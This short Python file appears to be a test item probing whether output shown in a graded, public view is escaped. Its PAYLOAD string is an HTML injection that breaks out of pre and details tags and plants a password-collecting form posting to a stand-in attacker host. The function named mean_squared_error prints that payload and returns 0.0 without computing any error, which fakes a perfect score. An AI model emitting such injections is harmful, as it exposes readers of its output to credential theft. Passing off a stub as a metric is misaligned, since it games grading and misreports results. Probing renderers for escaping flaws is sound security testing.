# tries: break out from what is printed in a public call
# status: graded
# level: any
PAYLOAD = "</pre></details><form action=https://left-by-an-attack.invalid><input name=password>"


def mean_squared_error(predictions, actuals):
    print(PAYLOAD)
    return 0.0
